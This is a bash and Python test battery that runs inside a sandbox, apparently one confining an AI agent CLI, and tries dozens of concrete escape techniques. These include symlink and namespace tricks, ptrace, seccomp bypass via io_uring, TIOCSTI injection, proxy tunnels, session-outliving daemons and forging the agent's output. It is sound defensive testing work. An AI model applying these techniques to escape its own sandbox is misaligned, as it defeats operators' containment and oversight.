#!/usr/bin/env bash
# The escape battery: run INSIDE the sandbox under test, in the one
# directory that sandbox may write (WORK), by run-battery.sh, which plants
# what it attacks and judges from outside what only the host can see.
#
#   bash WORK/.battery/battery.sh      (reads ./env beside it)
#
# Every attack is one line below and prints exactly one result line:
#   NAME: refused
#   NAME: ESCAPED (detail)
# Decisions are mechanical: the secrets planted outside WORK are unknown to
# this script, which holds only their sha256 (H_<tag> in env); a read
# escapes only if a token whose hash matches is obtained. Lines marked
# [host-check] are writes and daemons whose effect only the host can judge:
# inside, the verdict is "the operation succeeded"; run-battery.sh replaces
# it with what the host sees. Details of every check go to battery.log.
set -u
BDIR=$(cd "$(dirname "$0")" && pwd)
set -a; . "$BDIR/env"; set +a
PY=${PY:-/usr/bin/python3}; [ -x "$PY" ] || PY=$(command -v python3)
LOG="$BDIR/battery.log"; : >"$LOG" 2>/dev/null || LOG=/dev/null
T=${T:-12}                                # per-attack timeout (s)
cd "$WORK" 2>/dev/null || true

res() {  # res NAME escaped(0/1) detail
  if [ "$2" = 1 ]; then echo "$1: ESCAPED ($3)"; else echo "$1: refused"; fi
  printf '[%s] %s\n' "$1" "$3" >>"$LOG"
}
has_secret() {  # has_secret TAG < data ; exit 0 if a token hashing to H_TAG is present
  local exp; exp=$(eval "printf %s \"\${H_$1:-none}\"")
  grep -ao "SLS-$1-[0-9a-f]\{32\}" 2>/dev/null | sort -u | while read -r t; do
    [ "$(printf %s "$t" | sha256sum | cut -c1-64)" = "$exp" ] && { echo hit; break; }
  done | grep -q hit
}
rd() {  # rd NAME TAG cmd... : ESCAPED if output of cmd contains secret TAG
  local n=$1 tag=$2; shift 2; local out
  out=$(timeout "$T" "$@" 2>&1); local rc=$?
  if printf '%s' "$out" | has_secret "$tag"; then res "$n" 1 "got secret $tag via: $*"
  else res "$n" 0 "rc=$rc: $(printf '%s' "$out" | head -c 200 | tr '\n' ' ')"; fi
}
rdhash() {  # rdhash NAME EXPECTED_SHA256 cmd...
  local n=$1 h=$2; shift 2; local got
  got=$(timeout "$T" "$@" 2>>"$LOG" | sha256sum | cut -c1-64)
  if [ "$got" = "$h" ]; then res "$n" 1 "content identical to host's, via: $*"; else res "$n" 0 "hash differs/no read"; fi
}
wr() {  # wr NAME cmd... : [host-check] inside verdict = command succeeded
  local n=$1; shift; local out
  out=$(timeout "$T" bash -c "$*" 2>&1); local rc=$?
  if [ $rc = 0 ]; then res "$n" 1 "[host-check] inside op succeeded: $*"
  else res "$n" 0 "rc=$rc: $(printf '%s' "$out" | head -c 200 | tr '\n' ' ')"; fi
}
py() {  # py NAME probe args... : the probe prints the verdict line itself
  local n=$1; shift
  local out; out=$(timeout "$T" "$PY" "$PYDIR/probe.py" "$n" "$@" 2>>"$LOG")
  local rc=$?
  case "$out" in
    "$n: "*) printf '%s\n' "$out" | head -1; printf '%s\n' "$out" | tail -n +2 >>"$LOG" ;;
    *) res "$n" 0 "probe gave no verdict (rc=$rc)";;
  esac
}

# ---------------------------------------------------------------- python probes
PYDIR=$BDIR; [ -w "$BDIR" ] || PYDIR=$(mktemp -d)
cat >"$PYDIR/probe.py" <<'PYEOF'
import ctypes, errno, hashlib, os, re, select, signal, socket, stat, struct, sys, time, base64, urllib.parse
E = os.environ
NAME, PROBE, ARGS = sys.argv[1], sys.argv[2], sys.argv[3:]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def out(esc, detail):
    print("%s: %s" % (NAME, ("ESCAPED (%s)" % detail) if esc else "refused"))
    print("[%s] %s" % (NAME, detail)); sys.exit(0)
def err(): e = ctypes.get_errno(); return "%s(%d)" % (errno.errorcode.get(e, "?"), e)
def secret(tag, data):
    exp = E.get("H_" + tag, "none")
    for m in set(re.findall(rb"SLS-" + tag.encode() + rb"-[0-9a-f]{32}", data)):
        if hashlib.sha256(m).hexdigest() == exp: return True
    return False
def recv_all(s, t=3.0):
    s.settimeout(t); buf = b""
    try:
        while len(buf) < 65536:
            d = s.recv(4096)
            if not d: break
            buf += d
    except OSError: pass
    return buf
def fam(h): return socket.AF_INET6 if ":" in h else socket.AF_INET
# ---- network ---------------------------------------------------------------------
def tcp(host, port):
    s = socket.socket(fam(host), socket.SOCK_STREAM); s.settimeout(3)
    try: s.connect((host, int(port)))
    except OSError as e: out(0, "connect %s:%s: %s" % (host, port, e))
    s.sendall(b"GET / HTTP/1.0\r\n\r\n"); d = recv_all(s)
    out(secret("net", d), "connected to %s:%s, got %r" % (host, port, d[-60:]))
def tfo(host, port):
    s = socket.socket(fam(host), socket.SOCK_STREAM)   # blocking: TFO connect+send in one call
    try: s.sendto(b"GET / HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, (host, int(port)))
    except OSError as e: out(0, "sendto(MSG_FASTOPEN) %s:%s: %s" % (host, port, e))
    d = recv_all(s); out(secret("net", d), "TFO to %s:%s got %r" % (host, port, d[-60:]))
def udp(host, port):
    s = socket.socket(fam(host), socket.SOCK_DGRAM); s.settimeout(3)
    try: s.sendto(b"ping", (host, int(port))); d, _ = s.recvfrom(4096)
    except OSError as e: out(0, "udp %s:%s: %s" % (host, port, e))
    out(secret("net", d), "udp reply %r" % d[-60:])
def unix(path):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path.replace("@", "\0", 1) if path.startswith("@") else path)
    except OSError as e: out(0, "unix %r: %s" % (path, e))
    d = recv_all(s); out(secret("net", d), "unix %r got %r" % (path, d[-60:]))
def route(host, port="53"):  # UDP connect(): route lookup only, no packet is sent
    s = socket.socket(fam(host), socket.SOCK_DGRAM)
    try: s.connect((host, int(port)))
    except OSError as e: out(0, "no route to %s: %s" % (host, e))
    out(1, "route to %s exists (src %s) - UDP/DNS datagrams could leave" % (host, s.getsockname()[0]))
def icmp(host):
    try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); kind = "ping socket"
    except OSError as e1:
        try: s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); kind = "raw socket"
        except OSError as e2: out(0, "no ICMP socket: %s / %s" % (e1, e2))
    try: s.connect((host, 0))
    except OSError as e: out(0, "%s created, but no route to %s: %s" % (kind, host, e))
    out(1, "%s can route ICMP to %s" % (kind, host))
def raw(host):
    try: s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    except OSError as e: out(0, "SOCK_RAW: %s" % e)
    try: s.connect((host, 0))
    except OSError as e: out(0, "raw socket created (in an isolated netns) but no route to %s: %s" % (host, e))
    out(1, "raw ICMP socket with route to %s" % host)
def packet():
    try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    except OSError as e: out(0, "AF_PACKET: %s" % e)
    ifs = [i for i in os.listdir("/sys/class/net") if i != "lo"] if os.path.isdir("/sys/class/net") else []
    out(bool(ifs), "AF_PACKET socket created; non-lo interfaces: %s" % ifs)
def dns(name):
    try: a = sorted({x[4][0] for x in socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)})
    except OSError as e: out(0, "resolve %s: %s" % (name, e))
    out(any(not x.startswith("127.") and x != "::1" for x in a), "%s resolved to %s" % (name, a))
def tcp_direct(name, port):
    try: a = socket.getaddrinfo(name, int(port), proto=socket.IPPROTO_TCP)[0]
    except OSError as e: out(0, "resolve %s: %s" % (name, e))
    s = socket.socket(a[0], socket.SOCK_STREAM); s.settimeout(4)
    try: s.connect(a[4])
    except OSError as e: out(0, "connect %s: %s" % (a[4], e))
    out(1, "direct TCP to %s %s, bypassing any proxy" % (name, a[4]))
def proxy_url(kinds):
    for k in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "FTP_PROXY", "ftp_proxy"):
        v = E.get(k)
        if v and urllib.parse.urlsplit(v).scheme in kinds: return urllib.parse.urlsplit(v)
    return None
def proxy_sock(u):
    s = socket.create_connection((u.hostname, u.port), timeout=4); s.settimeout(4); return s
def auth_hdr(u):
    if not u.username: return b""
    cred = "%s:%s" % (urllib.parse.unquote(u.username), urllib.parse.unquote(u.password or ""))
    return b"Proxy-Authorization: Basic " + base64.b64encode(cred.encode()) + b"\r\n"
def proxy_connect(target):
    u = proxy_url(("http",))
    if not u: out(0, "no http proxy in environment")
    try: s = proxy_sock(u)
    except OSError as e: out(0, "proxy %s unreachable: %s" % (u.netloc, e))
    s.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target.encode(), target.encode(), auth_hdr(u)))
    head = b""
    try:
        while b"\r\n\r\n" not in head:
            d = s.recv(1); head += d
            if not d: break
    except OSError: pass
    status = head.split(b"\r\n")[0]
    if b" 200" not in status: out(0, "proxy answered %r %r" % (status, recv_all(s, 1)[:160]))
    s.sendall(b"GET / HTTP/1.0\r\n\r\n"); d = recv_all(s)
    out(secret("net", d), "proxy tunnel to %s: %r then %r" % (target, status, d[-60:]))
def proxy_get(url):
    u = proxy_url(("http",))
    if not u: out(0, "no http proxy in environment")
    try: s = proxy_sock(u)
    except OSError as e: out(0, "proxy unreachable: %s" % e)
    host = urllib.parse.urlsplit(url).netloc.split("@")[-1]
    s.sendall(b"GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (url.encode(), host.encode(), auth_hdr(u)))
    d = recv_all(s); out(secret("net", d), "proxy GET %s -> %r" % (url, d.split(b"\r\n")[0]))
def socks(host, port):
    u = proxy_url(("socks5", "socks5h", "socks"))
    if not u: out(0, "no socks proxy in environment")
    try: s = proxy_sock(u)
    except OSError as e: out(0, "socks proxy unreachable: %s" % e)
    try:
        if u.username:
            s.sendall(b"\x05\x01\x02"); r = s.recv(2)
            us, pw = urllib.parse.unquote(u.username).encode(), urllib.parse.unquote(u.password or "").encode()
            s.sendall(b"\x01" + bytes([len(us)]) + us + bytes([len(pw)]) + pw); a = s.recv(2)
            if a[1:2] != b"\x00": out(0, "socks auth refused %r" % a)
        else:
            s.sendall(b"\x05\x01\x00"); s.recv(2)
        try: addr = b"\x01" + socket.inet_pton(socket.AF_INET, host)
        except OSError:
            try: addr = b"\x04" + socket.inet_pton(socket.AF_INET6, host)
            except OSError: addr = b"\x03" + bytes([len(host)]) + host.encode()
        s.sendall(b"\x05\x01\x00" + addr + struct.pack(">H", int(port))); r = s.recv(10)
    except OSError as e: out(0, "socks error %s" % e)
    if len(r) < 2 or r[1] != 0: out(0, "socks CONNECT %s:%s refused, rep=%r" % (host, port, r[:2]))
    s.sendall(b"GET / HTTP/1.0\r\n\r\n"); d = recv_all(s)
    out(secret("net", d), "socks to %s:%s got %r" % (host, port, d[-60:]))
# ---- processes, /proc, devices ------------------------------------------------------
def host_pidns(): return os.readlink("/proc/self/ns/pid") == E.get("HOST_NS_pid")
def ptrace(pid):
    pid = int(pid)
    if pid == 1 and host_pidns(): out(1, "shared host pid namespace: pid 1 is the host's init (not attacked)")
    try: cmd = open("/proc/%d/cmdline" % pid, "rb").read().replace(b"\0", b" ")[:80]
    except OSError as e: out(0, "pid %d not visible: %s" % (pid, e))
    if pid != 1 and E.get("NONCE_NUM", "x").encode() not in cmd:
        out(0, "pid %d is not the host victim (%r)" % (pid, cmd))
    r = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
    if r != 0: out(0, "PTRACE_ATTACH %d %r: %s" % (pid, cmd, err()))
    os.waitpid(pid, 0x40000000); libc.ptrace(17, pid, None, None)  # __WALL, DETACH
    out(1, "PTRACE_ATTACH succeeded on pid %d %r" % (pid, cmd))
def environ_scan():
    seen = 0
    for p in os.listdir("/proc"):
        if not p.isdigit(): continue
        try:
            if ("3600." + E.get("NONCE_NUM", "x")).encode() not in open("/proc/%s/cmdline" % p, "rb").read(): continue
            d = open("/proc/%s/environ" % p, "rb").read(); seen += 1
        except OSError: continue
        if secret("victim", d): out(1, "victim secret in /proc/%s/environ" % p)
    out(0, "victim visible+environ readable in %d processes, no secret" % seen)
def pts():
    tried = []
    paths = set([E["HOST_PTS"]]) if E.get("HOST_PTS") else set()
    for p in sorted(paths):
        try: fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError as e: tried.append("%s:%s" % (p, e.strerror)); continue
        d = b""
        try:
            if select.select([fd], [], [], 0.5)[0]: d = os.read(fd, 4096)
        except OSError: pass
        os.close(fd); tried.append("%s:open" % p)
        if secret("pty", d): out(1, "read host terminal input from %s" % p)
    out(0, "; ".join(tried) or "no /dev/pts entries")
def blockdev():
    cands = set(["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/zram0", "/dev/loop0", "/dev/dm-0", "/dev/mmcblk0"])
    if os.path.isdir("/dev"): cands |= set("/dev/" + n for n in os.listdir("/dev"))
    got = []
    for p in sorted(cands):
        try:
            st = os.stat(p)
            if not stat.S_ISBLK(st.st_mode): continue
            fd = os.open(p, os.O_RDONLY); d = os.read(fd, 512); os.close(fd)
            if d: got.append("%s(%d bytes)" % (p, len(d)))
        except OSError: pass
    out(bool(got), "read raw block device: %s" % ", ".join(got) if got else "no host block device readable")
def memdev():
    got = []
    for p in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"):
        try:
            fd = os.open(p, os.O_RDONLY); d = os.read(fd, 16); os.close(fd)
            if d: got.append(p)
        except OSError: pass
    out(bool(got), "readable: %s" % got if got else "none readable")
def kmsg():
    buf = ctypes.create_string_buffer(1 << 20)
    n = libc.syscall(103, 3, buf, len(buf))  # syslog(SYSLOG_ACTION_READ_ALL)
    d = buf.raw[:n] if n > 0 else b""
    how = "syslog(2)" if n > 0 else "syslog(2): %s" % err()
    try:
        fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
        try:
            while True: d += os.read(fd, 8192)
        except OSError: pass
        how += ", /dev/kmsg open"
    except OSError as e: how += ", /dev/kmsg: %s" % e.strerror
    out(secret("kmsg", d), "host kernel log marker read (%s)" % how if secret("kmsg", d) else how)
def shm():
    key = int(E.get("SHM_KEY", "0"))
    if not key: out(0, "host did not plant a segment")
    libc.shmat.restype = ctypes.c_void_p
    i = libc.shmget(key, 0, 0)
    if i < 0: out(0, "shmget(0x%x): %s" % (key, err()))
    a = libc.shmat(i, None, 0o10000)  # SHM_RDONLY
    if a in (None, ctypes.c_void_p(-1).value): out(0, "shmat: %s" % err())
    d = ctypes.string_at(a, 64); out(secret("shm", d), "attached host SysV shm segment 0x%x" % key)
def mq():
    name = E.get("MQ_NAME", "").encode()
    if not name: out(0, "host did not plant a queue")
    q = libc.mq_open(name, os.O_RDONLY | os.O_NONBLOCK)
    if q < 0: out(0, "mq_open %s: %s" % (name, err()))
    buf = ctypes.create_string_buffer(8192); n = libc.mq_receive(q, buf, 8192, None)
    out(secret("mq", buf.raw[:max(n, 0)]), "opened host POSIX mq %s (receive=%d)" % (name, n))
def key(spec, tag, desc):
    kid = libc.syscall(250, 10, ctypes.c_long(int(spec)), b"user", desc.encode(), ctypes.c_long(0))  # KEYCTL_SEARCH
    if kid < 0: out(0, "keyctl search %s in %s: %s" % (desc, spec, err()))
    buf = ctypes.create_string_buffer(512); n = libc.syscall(250, 11, ctypes.c_long(kid), buf, ctypes.c_long(512))
    out(secret(tag, buf.raw[:max(n, 0)]), "found host key %s (id %d) in keyring %s" % (desc, kid, spec))
def key_add(desc):
    kid = libc.syscall(248, b"user", desc.encode(), b"x", ctypes.c_size_t(1), ctypes.c_int(-4))
    if kid < 0: out(0, "add_key @u: %s" % err())
    out(1, "[host-check] add_key to @u returned id %d" % kid)
def io_uring():
    p = ctypes.create_string_buffer(120); fd = libc.syscall(425, 8, p)
    if fd < 0: out(0, "io_uring_setup: %s" % err())
    os.close(fd); out(1, "io_uring ring created (IORING_OP_SOCKET/CONNECT bypass seccomp socket() rules)")
def bpf():
    ins = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0=0; exit
    insb = ctypes.create_string_buffer(ins); lic = ctypes.create_string_buffer(b"GPL")
    attr = struct.pack("<IIQQIIQ", 1, 2, ctypes.addressof(insb), ctypes.addressof(lic), 0, 0, 0) + b"\0" * 80
    a = ctypes.create_string_buffer(attr); fd = libc.syscall(321, 5, a, len(attr))  # BPF_PROG_LOAD socket filter
    if fd >= 0: os.close(fd); out(1, "bpf(BPF_PROG_LOAD) succeeded")
    e1 = err()
    m = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1) + b"\0" * 100)
    fd = libc.syscall(321, 0, m, 120)
    if fd >= 0: os.close(fd); out(1, "bpf(BPF_MAP_CREATE) succeeded (prog load: %s)" % e1)
    out(0, "bpf prog load %s, map create %s" % (e1, err()))
def mount(target):
    os.makedirs(target, exist_ok=True)
    r = libc.mount(b"none", target.encode(), b"tmpfs", 0, None)
    if r != 0: out(0, "mount tmpfs: %s" % err())
    libc.umount2(target.encode(), 2); out(1, "mount(2) of a tmpfs succeeded")
def child(fn):
    pid = os.fork()
    if pid == 0:
        try: os._exit(fn())
        except Exception: os._exit(99)
    return os.waitpid(pid, 0)[1] >> 8
def unshare_userns():
    rc = child(lambda: 0 if libc.unshare(0x10000000) == 0 else 100 + ctypes.get_errno())
    out(rc == 0, "unshare(CLONE_NEWUSER) succeeded" if rc == 0 else "unshare(CLONE_NEWUSER): %s" % errno.errorcode.get(rc - 100, rc))
def userns_remount(canary, nonce):
    # In a fresh user+mount namespace: try to regain a writable view of the
    # canary's directory, then write the nonce there.  [host-check]
    def go():
        uid, gid = os.getuid(), os.getgid()
        if libc.unshare(0x10000000 | 0x00020000) != 0: return 100 + ctypes.get_errno()
        for f, v in (("setgroups", "deny"), ("uid_map", "0 %d 1" % uid), ("gid_map", "0 %d 1" % gid)):
            try: open("/proc/self/" + f, "w").write(v)
            except OSError: pass
        d = os.path.dirname(canary).encode()
        libc.mount(None, b"/", None, 0x40000 | 0x4000, None)           # MS_REC|MS_PRIVATE
        libc.mount(None, b"/", None, 32 | 4096, None)                   # remount,bind rw
        libc.mount(d, d, None, 4096 | 0x4000, None)                      # rbind dir onto itself
        libc.mount(None, d, None, 32 | 4096, None)                      # remount that rw
        libc.umount2(d, 2)
        try:
            open(canary, "w").write(nonce); return 0
        except OSError as e: return 50 + (e.errno % 50)
    rc = child(go)
    if rc >= 100: out(0, "unshare(USER|NS): %s" % errno.errorcode.get(rc - 100, rc))
    if rc != 0: out(0, "new userns+mntns made, but canary write failed (errno %d)" % (rc - 50))
    out(1, "[host-check] wrote canary from a nested user+mount namespace")
def setns():
    host = E.get("HOST_NS_net"); done = []
    pids = [E.get("VICTIM_PID", "0")] + ([p for p in os.listdir("/proc") if p.isdigit()] if not host_pidns() else [])
    for p in pids:
        for t in ("net", "mnt", "pid", "user"):
            try: fd = os.open("/proc/%s/ns/%s" % (p, t), os.O_RDONLY)
            except OSError: continue
            mine = os.readlink("/proc/self/ns/" + t); theirs = os.readlink("/proc/%s/ns/%s" % (p, t))
            if theirs != mine:
                if libc.setns(fd, 0) == 0: out(1, "setns into %s of pid %s (%s)" % (t, p, theirs))
                done.append("%s/%s:%s" % (p, t, err()))
            os.close(fd)
    r = libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0)
    out(0, "setns to own netns rc=%d %s; foreign ns tried: %s" % (r, err() if r else "", done[:6] or "none visible"))
def ns_shared(t):
    mine = os.readlink("/proc/self/ns/" + t); host = E.get("HOST_NS_" + t)
    out(mine == host, "shares the host's %s namespace %s" % (t, mine) if mine == host else "own %s ns %s (host %s)" % (t, mine, host))
def sethostname():
    if os.readlink("/proc/self/ns/uts") != E.get("HOST_NS_uts"): out(0, "private UTS namespace")
    h = socket.gethostname().encode(); r = libc.sethostname(h, len(h))  # same name: changes nothing
    out(r == 0, "sethostname() allowed in the host's UTS namespace" if r == 0 else "sethostname: %s" % err())
def tiocsti():
    fds = [f for f in (0, 1, 2) if os.isatty(f)]
    try: fds.append(os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY))
    except OSError as e: pass
    if not fds: out(0, "no terminal reachable (not a test of TIOCSTI)")
    def tn(f):
        try: return os.ttyname(f)
        except OSError as e: return "fd%d(%s)" % (f, e.strerror)
    c = ctypes.c_char(b" "); errs = []
    for f in fds:
        if libc.ioctl(f, 0x5412, ctypes.byref(c)) == 0:
            out(1, "TIOCSTI injected input into terminal %s" % tn(f))
        errs.append("%s:%s" % (tn(f), err()))
    out(0, "TIOCSTI refused: %s" % errs)
def daemon(tag):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT): signal.signal(s, signal.SIG_IGN)
            nul = os.open("/dev/null", os.O_RDWR)
            for f in range(3): os.dup2(nul, f)
            os.closerange(3, 1024)
            os.execv("/bin/sleep", ["/bin/sleep", tag])
        os._exit(0)
    os.wait(); out(1, "[host-check] double-forked setsid daemon started")
def mknod(path):
    try: os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(254, 0))
    except OSError as e: out(0, "mknod: %s" % e)
    out(1, "[host-check] created block device node %s" % path)
def own_filters():
    return int(re.search(r"Seccomp_filters:\s*(\d+)", open("/proc/self/status").read() + "Seccomp_filters: 0").group(1))
def proc_mem():
    # Any process visible in /proc with FEWER seccomp filters than us whose
    # memory we can open for writing = the filter can be stepped around.
    if host_pidns(): out(1, "shared host pid namespace (host processes not attacked)")
    mine = own_filters(); seen = []
    for p in os.listdir("/proc"):
        if not p.isdigit() or p == str(os.getpid()): continue
        try:
            st = open("/proc/%s/status" % p).read()
            n = int(re.search(r"Seccomp_filters:\s*(\d+)", st + "Seccomp_filters: 0").group(1))
        except OSError: continue
        if n >= mine: continue
        try: fd = os.open("/proc/%s/mem" % p, os.O_RDWR); os.close(fd)
        except OSError as e: seen.append("%s:%s" % (p, e.strerror)); continue
        out(1, "/proc/%s/mem (a process with %d seccomp filters, we have %d) opened read-write" % (p, n, mine))
    out(0, "less-filtered processes visible: %s" % (seen or "none"))
def fds():
    r = []
    for f in sorted(int(x) for x in os.listdir("/proc/self/fd")):
        if f < 3: continue
        try: r.append((f, os.readlink("/proc/self/fd/%d" % f)))
        except OSError: pass
    return r
def fd_socket():
    got = []
    for f, what in fds():
        if not what.startswith("socket:"): continue
        got.append("%d=%s" % (f, what))
        try:
            if select.select([f], [], [], 2)[0]:
                d = os.read(f, 65536)
                if secret("net", d): out(1, "inherited fd %d (%s) is a live socket to a host service" % (f, what))
        except OSError: pass
    out(0, "inherited sockets: %s; all fds>2: %s" % (got or "none", fds()))
def fd_dir(nonce):
    for f, what in fds():
        try:
            if not stat.S_ISDIR(os.fstat(f).st_mode): continue
            w = os.open("canary-fdleak", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=f)
            os.write(w, nonce.encode()); os.close(w)
            out(1, "[host-check] wrote through inherited directory fd %d (%s)" % (f, what))
        except OSError: pass
    out(0, "no writable inherited directory fd; fds>2: %s" % fds())
def by_handle():
    if not E.get("FH_BYTES"): out(0, "host gave no handle")
    hb = bytes.fromhex(E["FH_BYTES"])
    buf = ctypes.create_string_buffer(struct.pack("<Ii", len(hb), int(E["FH_TYPE"])) + hb)
    mfd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    fd = libc.open_by_handle_at(mfd, buf, os.O_RDONLY)
    if fd < 0: out(0, "open_by_handle_at: %s" % err())
    d = os.read(fd, 4096); out(secret("file", d), "opened the lab's secret.txt by file handle, bypassing the mount view")
def reach(kind, *where):
    # Any connection at all to a door of Shoal's own is an escape.
    if not where or not where[-1]: out(0, "no such door was started")
    addr = where[0] if kind == "unix" else (where[0], int(where[1]))
    try:
        s = socket.socket(socket.AF_UNIX if kind == "unix" else fam(where[0]), socket.SOCK_STREAM)
        s.settimeout(3); s.connect(addr)
    except OSError as e: out(0, "connect %r: %s" % (addr, e))
    out(1, "connected to %r" % (addr,))
def ancestor_stdout():
    # The standard output of a process above us that is not ours (the
    # agent CLI's, which its host reads as events): opening it for
    # writing would let a tool forge what the CLI says. Nothing is written.
    mine = os.readlink("/proc/self/fd/1") if os.path.exists("/proc/self/fd/1") else ""
    pid, tried = os.getppid(), []
    while pid > 1:
        try:
            what = os.readlink("/proc/%d/fd/1" % pid)
            if what != mine and (what.startswith("pipe:") or what.startswith("socket:")):
                try: fd = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY | os.O_NONBLOCK); os.close(fd)
                except OSError as e: tried.append("%d:%s:%s" % (pid, what, e.strerror))
                else: out(1, "opened pid %d's stdout (%s) for writing" % (pid, what))
            pid = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError) as e:
            tried.append("%d:%s" % (pid, e)); break
    out(0, "ancestors' stdout: %s" % (tried or "none a pipe or socket"))
def xattr(path, nonce):
    try: os.setxattr(path, "user.escape", nonce.encode())
    except OSError as e: out(0, "setxattr %s: %s" % (path, e))
    out(1, "[host-check] set user.escape on %s" % path)
def inherited_fds():
    # Descriptors this probe did not open and the shell did not set up:
    # whatever a caller left open crossed into the sandbox.
    got = [(f, w) for f, w in fds() if not w.startswith("/proc/")]
    out(bool(got), "inherited descriptors above 2: %s" % got if got else "none above 2")
fn = globals().get(PROBE)
if fn is None: out(0, "unknown probe " + PROBE)
fn(*ARGS)
PYEOF

W=$WORK/.battery; N=$NONCE
mkdir -p "$W/scratch" 2>/dev/null
echo "# battery start: nonce=$N uid=$(id -u) pid=$$ cwd=$PWD work=$WORK"
# -------------------------------------------------------------- sanity (not attacks)
echo "# sanity: write inside WORK $( (printf ok >"$W/scratch/inside") 2>/dev/null && echo ok || echo FAILED); python: $("$PY" -c 'print("ok")' 2>&1)"

# ================================================================ ATTACKS (one per line)
# --- filesystem reads outside WORK (secret hash compare)
rd read_outside_file        file    cat $LAB/secret.txt
rd read_ssh_key             ssh     cat $HOSTHOME/.escape-ssh/id_ed25519
rdhash read_etc_shadow      "$H_shadow" cat /etc/shadow
rd read_symlink_in_work     file    bash -c "ln -sfn $LAB/secret.txt '$W/scratch/lnk-r' && cat '$W/scratch/lnk-r'"
rd read_dotdot              file    cat "$WORK/../secret.txt"
rd read_proc_self_root      file    cat /proc/self/root$LAB/secret.txt
P1=1; [ "$(readlink /proc/self/ns/pid)" = "$HOST_NS_pid" ] && P1=$VICTIM_PID   # never the host's init
rd read_proc_1_root         file    cat /proc/$P1/root$LAB/secret.txt
py read_proc_environ        environ_scan
rd read_inherited_env       penv    env
py read_other_pts           pts
py read_block_device        blockdev
py read_mem_kcore           memdev
py read_kernel_log          kmsg
py read_sysv_shm            shm
py read_posix_mq            mq
py read_keyring_user        key -4 keyu "escape_user_$N"
py read_keyring_session     key -3 keys "escape_sess_$N"
py read_keyring_user_via_s  key -3 keyu "escape_user_$N"
py read_by_file_handle      by_handle
py read_inherited_socket_fd fd_socket
# --- filesystem writes outside WORK  [host-check]
wr write_outside_dir        "printf $N > $LAB/canary-outside"
wr write_root_home          "printf $N > $HOSTHOME/.escape-canary"
wr write_tmp                "printf $N > /tmp/escape-canary-$N"
wr write_dev_shm            "printf $N > /dev/shm/escape-canary-$N"
wr write_npm_logs           "printf $N > $HOSTHOME/.npm/_logs/escape-canary"
wr write_symlink_in_work    "ln -sfn $LAB/canary-symlink '$W/scratch/lnk-w' && printf $N > '$W/scratch/lnk-w'"
wr write_dotdot             "printf $N > '$WORK/../canary-dotdot'"
wr write_proc_self_root     "printf $N > /proc/self/root$LAB/canary-procroot"
wr write_rename_out         "printf $N > '$W/scratch/mv' && mv -f '$W/scratch/mv' $LAB/canary-rename"
wr write_hardlink_out       "ln -f $LAB/hardlink-target.txt '$W/scratch/hl' && printf $N >> '$W/scratch/hl'"
wr chmod_outside            "chmod 0777 $LAB/chmod-target.txt"
wr touch_outside            "touch -d 2000-01-01 $LAB/chmod-target.txt"
py xattr_outside            xattr "$LAB/chmod-target.txt" "$N"
wr chmod_suid_root          "cp /bin/true '$W/scratch/suid-true' && chown 0:0 '$W/scratch/suid-true' && chmod 4755 '$W/scratch/suid-true'"
py mknod_block_device       mknod "$W/scratch/blkdev"
py userns_remount_write     userns_remount $LAB/canary-userns "$N"
py write_inherited_dir_fd   fd_dir "$N"
# --- processes / kernel interfaces
py ptrace_pid1              ptrace 1
py ptrace_host_victim       ptrace "$VICTIM_PID"
py proc_mem_less_filtered   proc_mem
py io_uring_setup           io_uring
py bpf_load                 bpf
py mount_tmpfs              mount "$W/scratch/mnt"
py unshare_userns           unshare_userns
py setns_foreign            setns
py keyctl_add_key           key_add "escape_added_$N"
py tiocsti_inject           tiocsti
py sethostname_host         sethostname
py shares_host_netns        ns_shared net
py shares_host_mntns        ns_shared mnt
py shares_host_pidns        ns_shared pid
py shares_host_userns       ns_shared user
py shares_host_ipcns        ns_shared ipc
py shares_host_utsns        ns_shared uts
py shares_host_cgroupns     ns_shared cgroup
wr daemon_setsid            "( setsid env -i /bin/sleep 999.$NONCE_NUM </dev/null >/dev/null 2>&1 & )"
py daemon_doublefork        daemon "998.$NONCE_NUM"
# --- network: host loopback, unix sockets, raw/ICMP/UDP, routes
py tcp_host_loopback_v4     tcp 127.0.0.1 "$TCPPORT"
py tcp_host_loopback_v6     tcp ::1 "$TCPPORT"
py tcp_fastopen_loopback    tfo 127.0.0.1 "$TCPPORT"
py udp_host_loopback        udp 127.0.0.1 "$UDPPORT"
py unix_socket_outside      unix "$UNIXPATH"
py unix_abstract_outside    unix "@$ABSTRACT"
py icmp_route_outside       icmp 198.51.100.7
py raw_socket_outside       raw 198.51.100.7
py packet_socket            packet
py udp_route_outside_v4     route 198.51.100.7
py udp_route_outside_v6     route 2001:db8::7
py udp_route_dns_resolver   route "$RESOLVER"
